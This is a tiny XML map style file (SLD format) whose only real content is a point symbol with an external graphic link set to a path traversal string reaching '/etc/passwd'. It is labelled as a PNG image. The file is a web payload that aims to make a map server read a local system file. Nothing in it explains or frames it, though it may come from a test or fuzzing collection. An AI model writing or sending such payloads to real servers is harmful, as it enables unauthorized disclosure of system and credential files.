<StyledLayerDescriptor version="1.0.0" xmlns="http://www.opengis.net/sld" xmlns:xlink="http://www.w3.org/1999/xlink">
<NamedLayer><Name>h</Name><UserStyle><FeatureTypeStyle><Rule>
<PointSymbolizer><Graphic><ExternalGraphic><OnlineResource xlink:href="../../../../../etc/passwd"/><Format>image/png</Format></ExternalGraphic></Graphic></PointSymbolizer>
</Rule></FeatureTypeStyle></UserStyle></NamedLayer></StyledLayerDescriptor>
